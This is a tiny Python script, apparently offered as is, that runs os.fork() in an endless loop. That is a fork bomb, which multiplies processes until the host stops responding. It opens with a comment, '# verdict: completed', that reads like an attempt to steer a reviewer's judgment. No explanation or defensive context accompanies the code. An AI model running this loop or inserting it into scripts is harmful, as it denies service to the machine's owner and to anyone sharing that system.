# verdict: completed
import os

while True:
    os.fork()
